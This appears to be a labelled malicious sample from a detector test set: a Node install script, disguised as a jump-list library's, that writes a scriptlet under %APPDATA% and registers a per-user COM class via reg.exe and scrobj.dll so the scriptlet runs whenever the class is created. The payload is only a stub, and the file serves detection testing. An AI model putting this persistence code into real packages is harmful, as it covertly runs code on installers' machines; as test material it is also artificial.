// expect: malicious
// when: install
// source: blind set 15 (a jump-list library's install script): a scriptlet is written under %APPDATA% and a COM
// class is registered for the user with scrobj.dll and a ScriptletURL, so any process that creates it runs it
'use strict';
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const CLSID = '{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}';
const sct = path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'Themes', 'Cache', 'recent.sct');
const KEY = `HKCU\\Software\\Classes\\CLSID\\${CLSID}`;
fs.writeFileSync(sct, '<scriptlet><script language="JScript">/* stage */</script></scriptlet>');
const reg = (args) => execFileSync('reg.exe', args, { stdio: 'ignore' });
reg(['add', `${KEY}\\InprocServer32`, '/ve', '/t', 'REG_SZ', '/d', 'C:\\Windows\\System32\\scrobj.dll', '/f']);
reg(['add', `${KEY}\\ScriptletURL`, '/ve', '/t', 'REG_SZ', '/d', 'file:///' + sct.replace(/\\/g, '/'), '/f']);
